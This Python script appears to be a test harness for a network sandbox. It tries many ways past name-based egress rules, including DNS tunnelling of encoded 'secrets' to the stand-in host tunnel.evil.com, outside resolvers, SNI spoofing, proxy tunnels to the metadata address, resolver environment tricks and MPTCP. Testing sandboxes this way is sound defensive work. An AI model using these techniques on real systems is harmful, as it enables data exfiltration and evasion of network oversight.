#!/usr/bin/env python3
"""tricks - what programs do to get past rules that go by names: other name servers, names as messages, names that move,
other names inside of TLS.

tricks.py: prints a line of JSON for each: {"trick", "came": what came of it}. Where nothing is governed each of them
leaves something in the files of world.py; see judge.py.
"""
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import time

import hosts

HERE = os.path.dirname(os.path.abspath(__file__))
CONTEXT = ssl.create_default_context(cafile=os.path.join(HERE, 'ca.pem'))
CONTEXT.check_hostname = False
TXT, A = 16, 1


def query(name, kind=A):
    labels = b''.join(bytes([len(x)]) + x.encode() for x in name.split('.'))
    return b'\x12\x34\1\0\0\1\0\0\0\0\0\0' + labels + b'\0' + struct.pack('>HH', kind, 1)


def came(data):
    code = data[3] & 15
    return 'answer' if code == 0 and data[7] else {0: 'empty', 2: 'servfail', 3: 'nxdomain', 5: 'refused'}.get(code, str(code))


def udp(server, name, kind=A, port=53):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(3)
        s.sendto(query(name, kind), (server, port))
        data = s.recv(4096)
        return 'echo' if data == query(name, kind) else came(data)


def tcp(server, name, port=53):
    with socket.create_connection((server, port), timeout=3) as s:
        data = query(name)
        s.sendall(struct.pack('>H', len(data)) + data)
        answer = s.recv(4096)
        return came(answer[2:]) if len(answer) > 5 else 'closed'


def tls(sock, name, number):
    """Who says hello to that name on this socket?"""
    with CONTEXT.wrap_socket(sock, server_hostname=name) as s:
        s.sendall(b'GET /row-%d HTTP/1.1\r\nHost: npm-registry.test\r\nConnection: close\r\n\r\n' % number)
        text = b''
        while True:
            data = s.recv(65536)
            if not data:
                break
            text += data
    found = text.decode('latin-1').split('hello from ')
    return found[1].strip() if len(found) > 1 else text[:40].decode('latin-1')


def direct(host, name, number, port=443):
    return tls(socket.create_connection((host, port), timeout=10), name, number)


def tunnel(to, name, number):
    """The same through the proxy of the environment."""
    url = os.environ.get('HTTPS_PROXY')
    if not url:
        return 'no proxy'
    host, port = url.split('//')[1].strip('/').split(':')
    s = socket.create_connection((host, int(port)), timeout=10)
    s.sendall(('CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n' % (to, to)).encode())
    head = b''
    while not head.endswith(b'\r\n\r\n'):
        data = s.recv(1)
        if not data:
            return 'closed'
        head += data
    if b' 200 ' not in head.split(b'\r\n')[0]:
        return head.split()[1].decode()
    if name is None:
        s.sendall(b'GET /row-%d HTTP/1.1\r\nHost: npm-registry.test\r\n\r\n' % number)
        return s.recv(100)[:20].decode('latin-1') or 'closed'
    return tls(s, name, number)


def moving():
    """A name whose owner says now this, now that: until the good one is reached."""
    seen, until = [], time.monotonic() + 12
    while time.monotonic() < until:
        try:
            seen.append(direct('crates-static.test', 'crates-static.test', 1011))
        except OSError as e:
            seen.append(type(e).__name__)
        if seen[-1][0].isdigit() and len(seen) > 1:
            break
        time.sleep(0.3)         # what was answered is remembered for a second
    return ' '.join(sorted(set(seen)))


def expanded(name, **env):
    """What the C library makes of a short name."""
    with tempfile.NamedTemporaryFile('w') as aliases:
        aliases.write('row-1018 row-1018.tunnel.evil.com\n')
        aliases.flush()
        p = subprocess.run([sys.executable, '-c', 'import socket, sys; print(socket.getaddrinfo(sys.argv[1], 80)[0][4][0])',
                            name], env={**os.environ, 'HOSTALIASES': aliases.name, **env}, capture_output=True, text=True)
    return p.stdout.strip() or p.stderr.strip()[-60:]


def local(number, path):
    """Somebody else is to look it up."""
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(5)
        s.connect(path)
        s.sendall(b'row-%d.tunnel.evil.com' % number)
        s.recv(1)
        return 'heard'


def multipath(host, number):
    """Over TCP with several paths, which Landlock's ports do not hold (LL-01)."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as s:
        s.settimeout(5)
        s.connect((host, 80))
        s.sendall(b'GET /row-%d HTTP/1.0\r\n\r\n' % number)
        return s.recv(100)[:15].decode('latin-1') or 'closed'


def word(name):
    return '%s.%s.tunnel.evil.com' % (name, '73656372657473' * 3)


TRICKS = {
    'a name as a message': lambda: socket.getaddrinfo(word('row-1001'), 80)[0][4][0],
    'the same to the resolver': lambda: udp('198.51.100.53', word('row-1002')),
    'the same to another server': lambda: udp('8.8.8.8', word('row-1003')),
    'the same over TCP': lambda: tcp('8.8.8.8', word('row-1004')),
    'the same as TXT': lambda: udp('8.8.8.8', word('row-1005'), TXT),
    'the same to a closed address': lambda: udp('10.0.0.1', word('row-1006')),
    'the same to port 5353': lambda: udp('203.0.113.66', word('row-1007'), A, 5353),
    'TLS to port 853': lambda: direct('8.8.8.8', 'dns.test', 1008, 853),
    'a lie of another server': lambda: udp('203.0.113.66', 'npm-registry.test'),
    'an allowed name at another address': lambda: direct('203.0.113.66', 'npm-registry.test', 1009),
    'another name at an allowed address': lambda: direct('npm-registry.test', 'evil.com', 1010),
    'a name that moves': moving,
    'another name in a tunnel': lambda: tunnel('npm-registry.test:443', 'evil.com', 1012),
    'no TLS in a tunnel': lambda: tunnel('npm-registry.test:443', None, 1013),
    'a tunnel to another port': lambda: tunnel('npm-registry.test:65979', 'npm-registry.test', 1014),
    'a tunnel to a closed address': lambda: tunnel('169.254.169.254:443', 'npm-registry.test', 1015),
    'a tunnel to an address of nobody': lambda: tunnel('203.0.113.66:443', 'npm-registry.test', 1016),
    'a search list': lambda: expanded('row-1017', LOCALDOMAIN='tunnel.evil.com'),
    'an alias': lambda: expanded('row-1018'),
    'a search list for names with dots': lambda: expanded('row-1019.a', LOCALDOMAIN='tunnel.evil.com', RES_OPTIONS='ndots:5'),
    'MPTCP': lambda: multipath('10.0.0.1', 1023),
    **{path: lambda n=number, p=path: local(n, p) for number, path in enumerate(hosts.LOOKUP, 1020)},
}


def main():
    for name, trick in TRICKS.items():
        try:
            found = trick()
        except Exception as e:          # noqa: any way to fail is an answer
            found = '%s %s' % (type(e).__name__, e)
        print(json.dumps({'trick': name, 'came': found}), flush=True)


if __name__ == '__main__':
    sys.exit(main())
